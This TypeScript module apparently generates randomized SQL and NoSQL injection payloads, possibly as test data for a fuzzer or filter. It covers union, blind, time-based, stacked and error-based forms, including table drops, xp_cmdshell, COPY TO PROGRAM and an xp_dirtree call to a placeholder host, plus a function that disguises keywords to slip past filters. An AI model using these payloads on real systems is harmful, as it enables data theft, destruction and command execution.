import type { Random } from '../../random.ts';

const TABLES = [
  'users',
  'accounts',
  'customers',
  'information_schema.tables',
  'admin',
  'orders',
  'pg_catalog.pg_user',
  'sysobjects',
  'members',
  'wp_users',
  'all_tables',
];
const COLUMNS = [
  'username',
  'password',
  'email',
  'card_number',
  'table_name',
  'version()',
  '@@version',
  'user()',
  'database()',
  'banner',
  'token',
  'ssn',
];
const COMMENTS = ['--', '-- -', '#', '/*', ';--', '--+', ';%00', ''];

type Grammar = (random: Random) => string;

/** What closes the value that the application put the parameter into. */
const opening: Grammar = (r) =>
  r.weighted([
    ["'", 36],
    ['"', 9],
    ['', 14],
    ["')", 9],
    [')', 6],
    ["'))", 4],
    [String(r.int(-1, 9999)), 14],
    [`${r.text(4)}'`, 8],
  ]);
const comment: Grammar = (r) => r.pick(COMMENTS);
const column: Grammar = (r) => r.pick(COLUMNS);
const table: Grammar = (r) => r.pick(TABLES);

function columns(r: Random): string {
  const list = Array.from({ length: r.int(1, 9) }, () =>
    r.weighted([
      ['NULL', 40],
      [String(r.int(1, 20)), 40],
      [column(r), 20],
    ] as const),
  );
  list[r.int(0, list.length - 1)] = r.pick([
    column(r),
    `CONCAT(${column(r)},0x3a,${column(r)})`,
    `CHAR(${r.int(60, 90)},${r.int(60, 90)})`,
    `group_concat(${column(r)})`,
  ]);
  return list.join(',');
}

const TRUTHS: Grammar = (r) => {
  const n = r.int(1, 9999);
  const word = r.text(3);
  return r.pick([
    `${n}=${n}`,
    `'${word}'='${word}`,
    `${n}<${n + 1}`,
    `'${word}' LIKE '${word}`,
    `${n} BETWEEN ${n - 1} AND ${n + 1}`,
    `${n} IN (${n})`,
    'true',
    `NOT ${n}=${n + 1}`,
    `"${word}"="${word}`,
    `ASCII(SUBSTRING((SELECT ${column(r)} FROM ${table(r)} LIMIT 1),${r.int(1, 20)},1))>${r.int(32, 120)}`,
    `EXISTS(SELECT ${column(r)} FROM ${table(r)})`,
    `LENGTH(${column(r)})=${r.int(1, 30)}`,
    `${column(r)} REGEXP '^${r.text(1)}'`,
    `${n}||'a'='${n}a'`,
  ]);
};

export const SQL_KINDS = {
  union: (r) =>
    `${opening(r)} ${r.pick(['UNION', 'UNION ALL', 'union all', 'UNION DISTINCT'])} ${r.pick(['SELECT', 'select', 'SELECT ALL'])} ${columns(r)}${r.chance(0.75) ? ` FROM ${table(r)}` : ''}${comment(r)}`,
  boolean_blind: (r) =>
    `${opening(r)} ${r.pick(['OR', 'AND', 'or', '||', '&&', 'XOR', 'AND NOT'])} ${TRUTHS(r)}${comment(r)}`,
  time_based: (r) => {
    const s = r.int(2, 15);
    const delay = r.pick([
      `SLEEP(${s})`,
      `pg_sleep(${s})`,
      `BENCHMARK(${s}000000,MD5(1))`,
      `(SELECT ${s} FROM (SELECT(SLEEP(${s})))x)`,
      `DBMS_PIPE.RECEIVE_MESSAGE('a',${s})`,
      `IF(ASCII(SUBSTR(database(),${r.int(1, 9)},1))=${r.int(90, 120)},SLEEP(${s}),0)`,
      `(SELECT CASE WHEN (1=1) THEN pg_sleep(${s}) ELSE pg_sleep(0) END)`,
      `randomblob(${s}00000000)`,
    ]);
    return r.chance(0.25)
      ? `${opening(r)}; WAITFOR DELAY '0:0:${s}'${comment(r)}`
      : `${opening(r)} ${r.pick(['AND', 'OR', '||', ';SELECT', 'AND 1='])} ${delay}${comment(r)}`;
  },
  stacked: (r) =>
    `${opening(r)}; ${r.pick([
      `DROP TABLE ${table(r)}`,
      `INSERT INTO ${table(r)} (${column(r)}) VALUES ('${r.text(5)}')`,
      `UPDATE ${table(r)} SET password='${r.text(6)}' WHERE 1=1`,
      `DELETE FROM ${table(r)}`,
      "EXEC xp_cmdshell 'whoami'",
      `EXEC master..xp_dirtree '//${r.text(5)}.example/a'`,
      `CREATE USER ${r.text(5)} IDENTIFIED BY '${r.text(5)}'`,
      'SHUTDOWN',
      `DECLARE @q varchar(99);SET @q=0x${r.hex(16)};EXEC(@q)`,
      "COPY (SELECT '') TO PROGRAM 'id'",
    ])}${comment(r)}`,
  error_based: (r) =>
    `${opening(r)} ${r.pick(['AND', 'OR', '||'])} ${r.pick([
      `EXTRACTVALUE(${r.int(1, 9999)},CONCAT(0x5c,(SELECT ${column(r)})))`,
      `UPDATEXML(1,CONCAT(0x7e,${column(r)}),1)`,
      `1=CONVERT(int,(SELECT ${column(r)}))`,
      `(SELECT COUNT(*) FROM ${table(r)} GROUP BY CONCAT(${column(r)},FLOOR(RAND(0)*2)))`,
      `CAST((SELECT ${column(r)}) AS int)=1`,
      `GTID_SUBSET(${column(r)},1)`,
      'JSON_KEYS((SELECT CONVERT((SELECT @@version) USING utf8)))',
      `ctxsys.drithsx.sn(1,(SELECT ${column(r)} FROM dual))=1`,
      'EXP(~(SELECT * FROM (SELECT USER())a))',
    ])}${comment(r)}`,
  probe: (r) =>
    r.pick([
      "'",
      "''",
      '"',
      "')",
      '\\',
      "1'",
      `${r.int(1, 99)}' ORDER BY ${r.int(1, 30)}${comment(r)}`,
      `${r.int(1, 99)} ORDER BY ${r.int(1, 30)}${comment(r)}`,
      "admin'--",
      "admin' #",
      `1' GROUP BY ${r.int(1, 9)} HAVING 1=1${comment(r)}`,
      "' or ''='",
      '1 AND 1=1',
      '1 AND 1=2',
      "x' AND email IS NULL; --",
      "'||(SELECT '')||'",
      '1;SELECT 1',
      '-1 OR 17-7=10',
    ]),
  nosql: (r) =>
    r.pick([
      '{"$ne": null}',
      '{"$gt": ""}',
      `{"$regex": "^${r.text(2)}"}`,
      '{"$where": "sleep(5000)"}',
      "'; return true; var x='",
      `{"$in": ["admin", "${r.text(4)}"]}`,
      "' || '1'=='1",
      '{"username": {"$ne": "x"}, "password": {"$ne": "x"}}',
      '{"$or": [{}, {"a": "a"}]}',
      "true, $where: '1 == 1'",
    ]),
} as const satisfies Record<string, Grammar>;

export type SqlKind = keyof typeof SQL_KINDS;

const KEYWORDS = /\b(?:UNION|SELECT|FROM|WHERE|AND|OR|SLEEP|INSERT|UPDATE|DELETE|DROP|ORDER)\b/gi;

/** Words written so that a filter that looks for them as they are does not find them. */
export function disguisedSql(r: Random, text: string): string {
  const way = r.int(0, 4);
  if (way === 0)
    return text.replaceAll(KEYWORDS, (word) =>
      [...word].map((c) => (r.chance(0.5) ? c.toUpperCase() : c.toLowerCase())).join(''),
    );
  if (way === 1) return text.replaceAll(' ', r.pick(['/**/', '\t', '\n', '\v', '/*x*/', '(', '  ', '\u00a0']));
  if (way === 2) return text.replaceAll(KEYWORDS, (word) => `/*!${r.pick(['', '50000'])}${word}*/`);
  if (way === 3)
    return text
      .replaceAll(/'(\w+)'/g, (_, word: string) => `0x${Buffer.from(word).toString('hex')}`)
      .replaceAll(/\bOR\b/gi, '||')
      .replaceAll(/\bAND\b/gi, '&&');
  return text.replaceAll(KEYWORDS, (word) => (r.chance(0.4) ? `${word.slice(0, 2)}${word}${word.slice(2)}` : word));
}
